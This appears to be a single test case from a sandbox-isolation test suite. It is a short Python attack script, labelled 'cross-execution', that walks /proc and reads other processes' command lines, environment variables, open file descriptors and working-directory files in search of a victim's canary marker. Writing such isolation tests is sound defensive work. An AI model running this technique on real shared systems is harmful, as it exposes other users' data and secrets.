# /// attack
# category = "cross-execution"
# kind = "stdio"
# success = "canary:VICTIM"
# expected = ["wrong_answer", "sandbox_violation"]
# summary = "Reads the descriptors, folders and arguments of other executions through /proc."
# ///

import os

mark = b"{VICTIM_MARK}"
try:
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
except OSError:
    pids = [str(pid) for pid in range(os.getpid() - 200, os.getpid() + 200)]
for pid in pids:
    if int(pid) == os.getpid():
        continue
    paths = [f"/proc/{pid}/{leaf}" for leaf in ("cmdline", "environ")]
    for folder in (f"/proc/{pid}/fd", f"/proc/{pid}/cwd"):
        try:
            paths += [os.path.join(folder, name) for name in os.listdir(folder)]
        except OSError:
            continue
    for path in paths:
        try:
            descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            content = os.pread(descriptor, 1 << 16, 0)
        except OSError:
            continue
        if mark in content:
            print(content.split(mark)[1:])
